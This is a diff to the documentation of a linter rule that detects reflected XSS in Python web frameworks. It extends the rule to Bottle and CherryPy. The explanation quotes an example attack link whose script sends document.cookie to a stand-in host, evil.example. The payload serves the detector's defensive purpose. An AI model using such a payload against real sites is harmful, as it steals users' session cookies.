@@ -21,8 +21,9 @@ class ReflectedXss(Rule):
     Finds request data put into an HTML response without escaping: a body
     built with f-strings, `%`, `.format()` or `+` (or the raw value itself)
     passed to Django's `HttpResponse`, Flask's `make_response`/`Response`,
-    Starlette's `HTMLResponse`, or returned as a string from a Flask route
-    (which Flask serves as `text/html`).
+    Starlette's `HTMLResponse`, or returned as a string from a Flask or Bottle
+    route or a CherryPy `@cherrypy.expose` method (which they serve as
+    `text/html`; not with CherryPy's `tools.json_out`).
 
     ## Why is this bad?
     A link such as `/search?q=<script>fetch('//evil.example?c='+document.cookie)</script>`
